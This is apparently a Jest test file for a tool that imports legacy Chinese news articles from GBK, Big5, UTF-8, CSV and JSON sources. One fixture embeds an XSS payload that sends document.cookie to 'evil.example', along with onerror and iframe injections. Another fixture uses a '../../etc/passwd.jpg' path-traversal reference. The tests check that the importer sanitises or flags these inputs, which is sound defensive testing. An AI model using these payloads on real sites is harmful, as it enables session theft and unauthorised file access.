import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import type { Connection } from 'mongoose';
import { ensureIndexes, openNodeDatabase } from '../../shared/src';
import type { ArticleDoc } from '../../services/src/articles/articleModel';
import { DEFAULT_CHANNEL_TREE, flattenChannelTree } from '../../services/src/channels/defaultChannelTree';
import {
  importLegacyArticles,
  type ImportNode,
  type ImportProgress,
  type ImportReport,
  type RecordReport,
} from '../../services/src/legacyImport/importLegacyArticles';
import { nodeModels } from '../../services/src/node/nodeModels';
import { testMongoUri, uniqueDatabaseName } from '../support/testDatabase';

/*
 * Fixtures are written by the test: old pages and exports as the 2007 sites produced them, in GBK, Big5 and
 * UTF-8 (with the pinyin annotations of the scraped speech), plus an empty and a binary file.
 */

const page = (charset: string, title: string, body: string, extraHead = '') =>
  `<html><head><meta http-equiv="Content-Type" content="text/html; charset=${charset}"><title>${title}_来宾党建网</title>${extraHead}</head>` +
  `<body><div id="nav"><a href="/">首页</a> <a href="/dt">工作动态</a></div>` +
  `<div class="content"><h1>${title}</h1>${body}</div><div class="footer">版权所有 来宾市委组织部</div></body></html>`;

const GBK_BODY =
  '<p>2007年3月5日，兴宾区召开党建信息工作会议。会议总结了2006年全区党建信息工作，部署2007年任务。</p>' +
  '<p>会议要求各乡镇信息员每月至少报送3条信息，不断提高信息质量，做好三级三批工作。</p>';
const BIG5_BODY =
  '<p>發布時間：2007-04-10 來源：象州縣委組織部</p><p>象州縣組織黨員開展遠程教育培訓，各級黨組織積極參與，學習實用技術。</p>' +
  '<p>培訓採取集中學習與分散自學相結合的方式進行，黨員群眾反映良好。</p>';
const PINYIN_BODY =
  '<p>發布日期：2007年5月8日</p><p>一、肯定成績(jī),正視問(wèn)題,不斷增強(qiáng)做好黨建信息工作的責(zé)任感和緊迫感。</p>' +
  '<p>全市各級(jí)黨組織認(rèn)真做好《桂中日?qǐng)?bào)•村黨員版》稿件統(tǒng)籌工作。</p>';
const SCRIPT_BODY =
  '<p>日期：2008-01-15</p><p>凤凰镇党委召开民主生活会，班子成员开展批评与自我批评。</p>' +
  '<script>document.location="http://evil.example/?c="+document.cookie</script>' +
  '<p onclick="steal()">会议由镇党委书记主持。<img src="x" onerror="alert(1)"></p><iframe src="http://evil.example"></iframe>';

const PHOTO = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('jpeg bytes of the old site')]);
const PHOTO_BODY =
  '<p>2009-05-04</p><p><img src="images/photo.jpg" alt="志愿服务现场"></p><p>武宣县党员志愿者走进社区开展服务。</p>' +
  '<p><img src="/images/gone.gif"><img src="../../etc/passwd.jpg"></p>';

const CSV =
  'title,date,channel,author,source,body\r\n' +
  '合山市开展农村党建示范点建设,2007-06-01,农村党建,李华,合山市委组织部,"合山市在各村开展党建示范点建设,共建成示范点20个。\r\n下一步将继续推进。"\r\n' +
  '武宣县纪委开展廉政教育月活动,2007年7月2日,jijian-lianzheng-jiaoyu,,武宣县纪委,武宣县纪委组织全县党员干部观看警示教育片。\r\n' +
  '金秀县召开老干部座谈会,2007/08/03,旧版栏目,王强,,金秀县召开老干部座谈会，听取意见建议。\r\n' +
  ',2007-09-01,工作动态,,,没有标题的记录\r\n';

const JSON_EXPORT = JSON.stringify([
  {
    title: '忻城縣黨員幹部學習十七大精神',
    date: '2007-10-25',
    channel: '党建 > 理论学习',
    author: '陳明',
    source: '忻城縣委宣傳部',
    body: '忻城縣組織黨員幹部深入學習十七大精神。\n各鄉鎮黨委迅速傳達。',
  },
  { title: '兴宾区党史资料征集', date: '二〇〇七年', channel: 'dangshi-yanjiu-shiliao', body: '<p>兴宾区党史办公开征集党史资料。</p>' },
  { title: '只有标题', body: '' },
]);

describe('importLegacyArticles', () => {
  let connection: Connection;
  let node: ImportNode;
  let dir: string;
  const catalogSaw: ArticleDoc[] = [];
  const importTime = new Date('2024-06-01T08:00:00Z');

  const byTitle = async (title: string) => (await node.models.Article.findOne({ title }).lean<ArticleDoc>())!;
  const recordsOf = (report: ImportReport): RecordReport[] => report.files.flatMap((f) => f.records);
  const recordFor = (report: ImportReport, path: string) => recordsOf(report).filter((r) => r.path === path);

  beforeAll(async () => {
    connection = await openNodeDatabase(testMongoUri(), uniqueDatabaseName('import'));
    await ensureIndexes(connection);
    const models = nodeModels(connection);
    await models.Channel.insertMany(
      flattenChannelTree(DEFAULT_CHANNEL_TREE).map((c) => ({
        _id: c.slug,
        name: c.name,
        level: c.level,
        parentSlug: c.parentSlug,
        order: c.order,
        origin: 'shared',
        retired: false,
        path: [...c.path],
        updatedAt: new Date(),
      })),
    );
    node = {
      config: { code: 'xingbin' } as ImportNode['config'],
      connection,
      models,
      catalog: { articleChanged: (doc) => catalogSaw.push(doc) },
      now: () => importTime,
    };

    dir = mkdtempSync(join(tmpdir(), 'djnet-import-'));
    const pages = join(dir, 'pages');
    mkdirSync(join(pages, 'images'), { recursive: true });
    writeFileSync(join(pages, 'gbk.html'), iconv.encode(page('gb2312', '兴宾区召开党建信息工作会议', GBK_BODY), 'gbk'));
    writeFileSync(join(pages, 'big5.htm'), iconv.encode(page('big5', '象州縣開展黨員遠程教育培訓', BIG5_BODY), 'big5'));
    writeFileSync(join(pages, 'pinyin.html'), Buffer.from(page('utf-8', '肯定成績(jī)正視問(wèn)題', PINYIN_BODY)));
    writeFileSync(join(pages, 'script.html'), Buffer.from(page('utf-8', '凤凰镇党委召开民主生活会', SCRIPT_BODY)));
    writeFileSync(join(pages, 'empty.html'), Buffer.alloc(0));
    writeFileSync(join(pages, 'broken.html'), Buffer.from([0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 0x00, 0x00, 0xff, 0x10, 0x00, 0x3b]));
    writeFileSync(join(pages, 'images', 'logo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47]));
    writeFileSync(join(pages, 'images', 'photo.jpg'), PHOTO);
    writeFileSync(join(pages, 'photo.html'), Buffer.from(page('utf-8', '图片新闻：武宣县党员志愿服务', PHOTO_BODY)));
    writeFileSync(join(dir, 'export.csv'), iconv.encode(CSV, 'gbk'));
    writeFileSync(join(dir, 'export.json'), JSON_EXPORT);
    writeFileSync(join(dir, 'noheader.csv'), iconv.encode('兴宾区新闻,正文内容\r\n', 'gbk'));
  });
  afterAll(async () => {
    rmSync(dir, { recursive: true, force: true });
    await connection.dropDatabase();
    await connection.close();
  });

  it('imports a folder of GBK, Big5 and UTF-8 pages as published, repaired, safe articles', async () => {
    const progress: ImportProgress[] = [];
    const report = await importLegacyArticles(node, join(dir, 'pages'), { onProgress: (p) => progress.push(p) });

    expect(report.totals).toEqual({ files: 7, records: 7, imported: 5, skipped: 2, failed: 0 });
    expect(report.ignored).toEqual(['images/logo.png', 'images/photo.jpg']);
    expect(progress).toHaveLength(7);
    expect(progress.at(-1)).toMatchObject({ filesDone: 7, filesTotal: 7, imported: 5, skipped: 2 });

    const gbk = await byTitle('兴宾区召开党建信息工作会议');
    expect(gbk).toMatchObject({
      node: 'xingbin',
      status: 'published',
      createdBy: 'import',
      version: 1,
      channel: 'dangjian-gongzuo-dongtai',
    });
    expect(gbk.publishedAt!.toISOString()).toBe('2007-03-04T16:00:00.000Z');
    expect(gbk.bodyText).toContain('做好三级三批工作');
    expect(gbk.body).not.toMatch(/首页|版权所有|<h1/);
    expect(gbk.transitions).toEqual([expect.objectContaining({ by: 'import', from: null, to: 'published' })]);
    expect(gbk.importKey).toMatch(/^[0-9a-f]{64}$/);
    expect(recordFor(report, 'gbk.html')[0]).toMatchObject({
      outcome: 'imported',
      encoding: 'gb18030',
      dateFrom: 'source',
      channel: 'dangjian-gongzuo-dongtai',
    });

    const big5 = await byTitle('象州县开展党员远程教育培训');
    expect(big5.bodyText).toContain('象州县组织党员开展远程教育培训，各级党组织积极参与，学习实用技术。');
    expect(big5.publishedAt!.toISOString()).toBe('2007-04-09T16:00:00.000Z');
    expect(big5.sourceUnit).toBe('象州县委组织部');
    expect(big5.bodyText).not.toContain('发布时间');
    const big5Report = recordFor(report, 'big5.htm')[0]!;
    expect(big5Report).toMatchObject({ outcome: 'imported', encoding: 'big5' });
    expect(big5Report.repairs).toContainEqual({ kind: 'traditional-to-simplified', count: expect.any(Number) });

    const pinyin = await byTitle('肯定成绩正视问题');
    expect(pinyin.bodyText).toContain('一、肯定成绩,正视问题,不断增强做好党建信息工作的责任感和紧迫感。');
    expect(pinyin.bodyText).toContain('《桂中日报·村党员版》');
    expect(pinyin.bodyText).not.toContain('发布日期');
    expect(recordFor(report, 'pinyin.html')[0]!.repairs.map((r) => r.kind)).toEqual(
      expect.arrayContaining(['pinyin-annotation', 'annotation-artifact', 'traditional-to-simplified', 'middle-dot']),
    );

    const script = await byTitle('凤凰镇党委召开民主生活会');
    expect(script.bodyText).toContain('会议由镇党委书记主持。');
    expect(script.body).not.toMatch(/script|onclick|onerror|iframe|evil|cookie/i);
    expect(script.publishedAt!.toISOString()).toBe('2008-01-14T16:00:00.000Z');

    expect(recordFor(report, 'empty.html')[0]).toMatchObject({ outcome: 'skipped', reason: { code: 'empty' } });
    expect(recordFor(report, 'broken.html')[0]).toMatchObject({ outcome: 'skipped', reason: { code: 'unreadable' } });

    // Images saved with a page become media of the node (the first one the cover); others are reported.
    const photo = await byTitle('图片新闻：武宣县党员志愿服务');
    const media = (await node.models.Media.findById(photo.coverImageId).lean())!;
    expect(media).toMatchObject({ filename: 'photo.jpg', contentType: 'image/jpeg', alt: '志愿服务现场', uploadedBy: 'import' });
    expect(photo.body).toContain(`<img src="/media/${media._id}" alt="志愿服务现场" />`);
    const photoWarnings = recordFor(report, 'photo.html')[0]!.warnings.join('\n');
    expect(photoWarnings).toContain('/images/gone.gif');
    expect(photoWarnings).toContain('../../etc/passwd.jpg');

    // Every imported article reached the catalog, with a stable id derived from its source.
    expect(catalogSaw.map((d) => d.title).sort()).toEqual([gbk.title, big5.title, pinyin.title, script.title, photo.title].sort());
    expect(recordFor(report, 'gbk.html')[0]!.articleId).toBe(`xingbin:${String(gbk._id)}`);
  });

  it('imports a GBK CSV export, mapping channels by name and slug and falling back to the default', async () => {
    const report = await importLegacyArticles(node, join(dir, 'export.csv'), { defaultChannel: 'dangjian-jingyan' });
    expect(report.files[0]).toMatchObject({ format: 'csv', encoding: 'gb18030' });
    expect(report.totals).toMatchObject({ records: 4, imported: 3, skipped: 1 });

    const heshan = await byTitle('合山市开展农村党建示范点建设');
    expect(heshan).toMatchObject({ channel: 'dangjian-jiceng-nongcun', author: '李华', sourceUnit: '合山市委组织部' });
    expect(heshan.bodyText).toBe('合山市在各村开展党建示范点建设,共建成示范点20个。\n下一步将继续推进。');
    expect(heshan.publishedAt!.toISOString()).toBe('2007-05-31T16:00:00.000Z');
    expect((await byTitle('武宣县纪委开展廉政教育月活动')).channel).toBe('jijian-lianzheng-jiaoyu');

    const unknown = recordsOf(report).find((r) => r.title === '金秀县召开老干部座谈会')!;
    expect(unknown).toMatchObject({
      outcome: 'imported',
      channel: 'dangjian-jingyan',
      channelFallback: { given: '旧版栏目', reason: 'unknown' },
    });
    expect((await byTitle('金秀县召开老干部座谈会')).channel).toBe('dangjian-jingyan');
    expect(recordsOf(report).find((r) => r.position === 6)).toMatchObject({ outcome: 'skipped', reason: { code: 'empty' } });
  });

  it('imports a JSON export with traditional text, channel paths and unreadable dates', async () => {
    const report = await importLegacyArticles(node, join(dir, 'export.json'));
    expect(report.totals).toMatchObject({ records: 3, imported: 2, skipped: 1 });

    const xincheng = await byTitle('忻城县党员干部学习十七大精神');
    expect(xincheng).toMatchObject({ channel: 'dangjian-lilun', author: '陈明', sourceUnit: '忻城县委宣传部' });
    expect(xincheng.body).toBe('<p>忻城县组织党员干部深入学习十七大精神。</p><p>各乡镇党委迅速传达。</p>');

    const shiliao = recordsOf(report).find((r) => r.title === '兴宾区党史资料征集')!;
    expect(shiliao).toMatchObject({ channel: 'dangshi-yanjiu-shiliao', dateFrom: 'import-time', publishedAt: importTime.toISOString() });
    expect(shiliao.warnings.join()).toContain('二〇〇七年');
    expect(recordsOf(report).find((r) => r.title === '只有标题')).toMatchObject({ outcome: 'skipped', reason: { code: 'empty' } });
  });

  it('reports a CSV without a header row as unreadable', async () => {
    const report = await importLegacyArticles(node, join(dir, 'noheader.csv'));
    expect(report.files[0]!.records).toEqual([
      expect.objectContaining({ outcome: 'skipped', reason: expect.objectContaining({ code: 'unreadable' }) }),
    ]);
  });

  it('imports nothing new when run again: every record is a duplicate', async () => {
    const before = await node.models.Article.countDocuments();
    const catalogBefore = catalogSaw.length;
    for (const source of [join(dir, 'pages'), join(dir, 'export.csv'), join(dir, 'export.json')]) {
      const report = await importLegacyArticles(node, source, { defaultChannel: 'dangjian-jingyan' });
      expect(report.totals.imported).toBe(0);
      expect(report.totals.failed).toBe(0);
      const duplicates = recordsOf(report).filter((r) => r.reason?.code === 'duplicate');
      expect(duplicates.length).toBe(recordsOf(report).filter((r) => r.reason?.code !== 'empty' && r.reason?.code !== 'unreadable').length);
      expect(duplicates.length).toBeGreaterThan(0);
    }
    expect(await node.models.Article.countDocuments()).toBe(before);
    expect(catalogSaw.length).toBe(catalogBefore);
  });

  it('holds a record that hits the sensitive-word list for review instead of publishing it', async () => {
    await node.models.NodeSettings.updateOne({ _id: 'settings' }, { $set: { sensitiveWords: ['赌博'] } }, { upsert: true });
    try {
      const held = join(dir, 'held');
      mkdirSync(held);
      writeFileSync(join(held, 'held.html'), Buffer.from(page('utf-8', '某村整治赌博歪风', '<p>村党支部带头整治赌博歪风。</p>')));
      writeFileSync(join(held, 'clean.html'), Buffer.from(page('utf-8', '某村开展主题党日', '<p>村党支部开展主题党日活动。</p>')));
      const catalogBefore = catalogSaw.length;
      const report = await importLegacyArticles(node, held);
      expect(report.totals).toMatchObject({ imported: 2, failed: 0 });
      const record = recordsOf(report).find((r) => r.title === '某村整治赌博歪风')!;
      expect(record.warnings.join()).toContain('含敏感词（赌博），已放入待审稿件');

      const doc = await byTitle('某村整治赌博歪风');
      expect(doc).toMatchObject({ status: 'submitted', publishedAt: null });
      expect(doc.sensitiveHits.map((h) => [h.field, h.word]).sort()).toEqual([
        ['body', '赌博'],
        ['title', '赌博'],
      ]);
      expect(doc.transitions.at(-1)).toMatchObject({ to: 'submitted' });
      expect((await byTitle('某村开展主题党日')).status).toBe('published');
      // The catalog is told about both; it keeps published articles only.
      expect(catalogSaw.slice(catalogBefore).map((d) => [d.title, d.status])).toEqual(
        expect.arrayContaining([
          ['某村整治赌博歪风', 'submitted'],
          ['某村开展主题党日', 'published'],
        ]),
      );
    } finally {
      await node.models.NodeSettings.updateOne({ _id: 'settings' }, { $set: { sensitiveWords: [] } });
    }
  });

  it('writes nothing on a dry run, and refuses an unknown default channel before reading anything', async () => {
    const fresh = join(dir, 'fresh');
    mkdirSync(fresh);
    writeFileSync(join(fresh, 'new.html'), Buffer.from(page('utf-8', '新的一篇', '<p>试运行不写入数据库。</p>')));
    const before = await node.models.Article.countDocuments();
    const report = await importLegacyArticles(node, fresh, { dryRun: true });
    expect(report).toMatchObject({ dryRun: true, totals: { imported: 1 } });
    expect(await node.models.Article.countDocuments()).toBe(before);
    await expect(importLegacyArticles(node, fresh, { defaultChannel: 'no-such-channel' })).rejects.toMatchObject({
      code: 'BAD_USER_INPUT',
    });
  });
});
